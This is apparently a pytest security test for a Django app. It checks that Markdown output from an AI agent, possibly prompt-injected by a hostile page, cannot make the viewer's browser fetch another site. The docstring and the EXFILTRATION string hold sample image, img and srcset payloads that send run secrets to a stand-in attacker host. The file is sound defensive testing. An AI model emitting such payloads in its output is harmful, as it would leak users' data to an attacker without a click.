"""Agent output is Markdown from a model that may have read a hostile web page or document
(prompt injection). Rendering it must not run code, and must not make the browser of whoever
opens the run contact another site on its own: an image URL is fetched as soon as the page
loads, so `![](https://attacker.example/?d=<secret from the run state>)` would send the data
there without a click."""

import re

import pytest
from django.test import Client

from runs.models import Run, Step
from tests.security.payloads import build_world

pytestmark = pytest.mark.django_db

EXFILTRATION = (
    "Summary done.\n\n![chart](https://attacker.example/c.png?d=SECRET-FROM-STATE)\n\n"
    '<img src="https://attacker.example/p.gif?d=SECRET-FROM-STATE">\n\n'
    '<picture><source srcset="https://attacker.example/s.png?d=SECRET-FROM-STATE"></picture>\n\n'
    "[a link is fine: it needs a click](https://example.com/docs)"
)


@pytest.fixture
def run_page(alice):
    world = build_world(alice, "exfiltration", slug="exfil")
    Step.objects.filter(pk=world.agent_step.pk).update(output_text=EXFILTRATION, output=None)
    Run.objects.filter(pk=world.run.pk).update(result=EXFILTRATION)
    client = Client()
    client.force_login(alice)
    return client.get(f"/runs/{world.run.pk}/").content.decode()


def test_agent_output_cannot_make_the_browser_fetch_another_site(run_page):
    fetched = re.findall(
        r"<(?:img|source|video|audio|iframe|embed|object)\b[^>]*"
        r'(?:src|srcset|data|poster)="([^"]*)"',
        run_page,
    )
    assert not [url for url in fetched if "attacker.example" in url], fetched


def test_links_and_text_of_agent_output_are_kept(run_page):
    assert 'href="https://example.com/docs"' in run_page
    assert "Summary done." in run_page
